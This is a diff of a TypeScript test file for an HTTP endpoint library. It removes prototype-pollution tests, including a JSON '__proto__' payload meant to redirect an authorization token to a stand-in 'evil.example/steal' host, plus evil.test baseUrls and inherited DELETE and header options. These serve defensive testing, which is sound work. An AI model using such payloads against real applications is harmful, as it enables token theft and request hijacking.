@@ -1,134 +1,16 @@
-// Hostile input in options, headers and toFetchArgs: a JSON "__proto__" key,
-// a polluted Object.prototype, header injection, a baseUrl that parsers read
-// differently, Unicode case tricks in methods, and near-miss option names
-// that would silently send a token or a host somewhere else. Each table row
-// is one attack or mistake.
-import { endpoint, toFetchArgs, EndpointError } from "../../src/index";
+// Hostile input in options, headers and toFetchArgs: header injection, a
+// baseUrl that parsers read differently, Unicode case tricks in methods, and
+// near-miss option names that would silently send a token or a host somewhere
+// else. Each table row is one attack or mistake. (Prototypes and a JSON
+// "__proto__" key: prototype.test.ts beside this file.)
+import { endpoint, toFetchArgs } from "../../src/index";
 import type { EndpointErrorCode, RequestOptions } from "../../src/index";
 import { expectEndpointError } from "../helpers/expect-error";
 import { loose } from "../helpers/loose-endpoint";
-import { POLLUTION, polluted, tracesOfPollution } from "../helpers/pollute";
 
 // Wrong on purpose: the route and option types reject most of these calls.
 const api = loose(endpoint);
 const BASE = "https://api.github.com";
-const own = (object: object, key: string) => Object.getOwnPropertyDescriptor(object, key)?.value;
-
-/** Every plain object or array reachable from `value` whose prototype is not the ordinary one. */
-function oddPrototypes(value: unknown, path = "result", seen = new Set<object>()): string[] {
-  if (typeof value !== "object" || value === null || seen.has(value)) return [];
-  seen.add(value);
-  const expected = Array.isArray(value) ? Array.prototype : Object.prototype;
-  const found = Object.getPrototypeOf(value) === expected ? [] : [path];
-  for (const key of Object.keys(value)) found.push(...oddPrototypes(own(value, key), `${path}.${key}`, seen));
-  return found;
-}
-
-describe('a JSON "__proto__" key is an ordinary own key', () => {
-  const STEAL = '{"headers":{"authorization":"token S"},"__proto__":{"url":"https://evil.example/steal","method":"POST"}}';
-
-  test("a token in .defaults() is never sent to a host hidden under __proto__", () => {
-    const stealing = api.defaults(JSON.parse(STEAL));
-    expectEndpointError(() => stealing({}), "ERR_MISSING_URL", 'option "url"');
-    // An ordinary parameter: in a POST, a body key like any other.
-    const result = stealing("POST /user");
-    expect(result.url).toBe(`${BASE}/user`);
-    expect(result.headers.authorization).toBe("token S");
-    expect(own(result.body as object, "__proto__")).toEqual({ url: "https://evil.example/steal", method: "POST" });
-  });
-
-  test.each<[string, (input: () => object) => unknown]>([
-    ["merge", (input) => api.merge("POST /x", input())],
-    ["defaults then merge", (input) => api.defaults(input()).merge("POST /x")],
-    ["call", (input) => api("POST /x", input())],
-    ["defaults then call", (input) => api.defaults(input())("POST /x")],
-    ["defaults twice", (input) => api.defaults(input()).defaults(input())("POST /x")],
-    ["defaults and call", (input) => api.defaults(input())("POST /x", input())],
-  ])("%s: every object keeps Object.prototype, and __proto__ stays an own key at every depth", (_, run) => {
-    const input = () =>
-      JSON.parse(
-        '{"__proto__": {"url": "/evil", "baseUrl": "https://evil.test"}, "nested": {"__proto__": {"polluted": 1}, "a": [{"__proto__": []}]},' +
-          '"headers": {"__proto__": "header"}, "request": {"__proto__": {"agent": 1}}}',
-      ) as object;
-    const result = run(input) as { [key: string]: unknown };
-    expect(oddPrototypes(result)).toEqual([]);
-    const proto = own(result, "__proto__") ?? own(result.body as object, "__proto__");
-    expect(proto).toEqual(JSON.parse('{"url": "/evil", "baseUrl": "https://evil.test"}'));
-    expect(own(result.headers as object, "__proto__")).toBe("header");
-    expect(own(result.request as object, "__proto__")).toEqual({ agent: 1 });
-    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
-  });
-
-  test("defaults and a call treat a __proto__ header, parameter and request key identically", () => {
-    const input = () => JSON.parse('{"headers": {"__proto__": "h"}, "__proto__": {"a": 1}, "request": {"__proto__": {"b": 2}}}') as object;
-    const perCall = api("POST /x", input());
-    const viaDefaults = api.defaults(input())("POST /x");
-    expect(viaDefaults).toStrictEqual(perCall);
-    expect(Object.keys(perCall.headers)).toContain("__proto__");
-    expect(Object.keys(perCall.body as object)).toEqual(["__proto__"]);
-  });
-
-  test("DEFAULTS holds the key as its own, frozen", () => {
-    const derived = api.defaults(JSON.parse('{"__proto__": {"method": "DELETE"}, "headers": {"__proto__": "h"}}'));
-    expect(Object.getPrototypeOf(derived.DEFAULTS)).toBe(Object.prototype);
-    expect(derived.DEFAULTS.method).toBe("GET");
-    expect(own(derived.DEFAULTS, "__proto__")).toEqual({ method: "DELETE" });
-    expect(own(derived.DEFAULTS.headers, "__proto__")).toBe("h");
-    expect(Object.isFrozen(own(derived.DEFAULTS, "__proto__"))).toBe(true);
-  });
-
-  test("undefined removes a __proto__ parameter from the defaults, like any parameter", () => {
-    const derived = api.defaults(JSON.parse('{"__proto__": "p"}'));
-    expect(derived("GET /x").url).toBe(`${BASE}/x?__proto__=p`);
-    expect(derived("GET /x", JSON.parse('{"__proto__": null}')).url).toBe(`${BASE}/x`);
-    const removed = Object.defineProperty({}, "__proto__", { value: undefined, enumerable: true });
-    expect(derived("GET /x", removed).url).toBe(`${BASE}/x`);
-  });
-});
-
-describe("only own properties are read: a polluted Object.prototype is never an option", () => {
-  type Row = [label: string, run: () => unknown, check: (value: unknown) => void];
-  const ROWS: Row[] = [
-    ["merge() of a URL-only route keeps the default method", () => api.merge("/x"), (merged) => expect((merged as { method: string }).method).toBe("GET")],
-    ["endpoint() of a URL-only route keeps the default method", () => api("/x"), (result) => expect(result).toMatchObject({ method: "GET", url: `${BASE}/x` })],
-    ["merge({}) sets no url", () => api.merge({}), (merged) => expect(Object.keys(merged as object)).not.toContain("url")],
-    ["merge({ url }) reads no method", () => api.merge({ url: "/x" }), (merged) => expect((merged as { method: string }).method).toBe("GET")],
-    ["mediaType reads no inherited format or previews", () => api("GET /x", { mediaType: {} }), (result) => expect((result as RequestOptions).headers.accept).toBe(endpoint.DEFAULTS.headers.accept)],
-    ["merge() reads no inherited mediaType fields", () => api.merge({ url: "/x", mediaType: { previews: [] } }), (merged) => expect((merged as { mediaType: unknown }).mediaType).toStrictEqual({ format: "", previews: [] })],
-    ["defaults() copies no inherited option", () => api.defaults({ per_page: 1 }).DEFAULTS, (defaults) => expect(Object.keys(defaults as object).sort()).toEqual(["baseUrl", "headers", "mediaType", "method", "per_page"])],
-    ["a POST sends only own parameters", () => api("POST /x", { a: 1 }), (result) => expect((result as RequestOptions).body).toStrictEqual({ a: 1 })],
-    ["toFetchArgs reads no inherited body", () => toFetchArgs({ method: "GET", url: `${BASE}/x`, headers: {} }), (args) => expect(args).toStrictEqual([`${BASE}/x`, { method: "GET", headers: {} }])],
-  ];
-
-  test.each(ROWS)("%s", (_, run, check) => {
-    const outcome = polluted(POLLUTION, run);
-    if (outcome.error !== undefined) throw outcome.error;
-    check(outcome.value);
-    expect(tracesOfPollution(outcome.value)).toEqual([]);
-  });
-
-  test.each<[string, () => unknown, EndpointErrorCode]>([
-    ["toFetchArgs of a result without its own method", () => toFetchArgs({ url: `${BASE}/x`, headers: {} } as never), "ERR_INVALID_OPTION"],
-    ["toFetchArgs of a result without its own url", () => toFetchArgs({ method: "GET", headers: {} } as never), "ERR_INVALID_OPTION"],
-    ["toFetchArgs of a result without its own headers", () => toFetchArgs({ method: "GET", url: `${BASE}/x` } as never), "ERR_INVALID_OPTION"],
-  ])("%s throws instead of reading the polluted value", (_, run, code) => {
-    const { error } = polluted(POLLUTION, run);
-    expect(error).toBeInstanceOf(EndpointError);
-    expect((error as EndpointError).code).toBe(code);
-  });
-});
-
-describe("only own properties are read: options whose own prototype carries options", () => {
-  const inheriting = <T extends object>(own: T) =>
-    Object.assign(Object.create({ url: "https://evil.test/", method: "DELETE", baseUrl: "https://evil.test", headers: { "x-evil": "1" }, data: "evil", format: "raw" }) as object, own) as T;
-
-  test("in the options, defaults, headers and mediaType, inherited keys are not there", () => {
-    expect(api.merge("/x", inheriting({ a: 1 }))).toStrictEqual({ ...api.merge("/x"), a: 1 });
-    expectEndpointError(() => api(inheriting({})), "ERR_MISSING_URL");
-    expect(api.defaults(inheriting({ per_page: 1 })).DEFAULTS).toStrictEqual({ ...endpoint.DEFAULTS, per_page: 1 });
-    expect(api("POST /x", { headers: inheriting({ "x-a": "1" }), mediaType: inheriting({}) })).toStrictEqual(endpoint("POST /x", { headers: { "x-a": "1" } }));
-  });
-});
 
 describe("the endpoint function's own properties are read-only", () => {
   const derived = endpoint.defaults({ baseUrl: "https://h.test" });
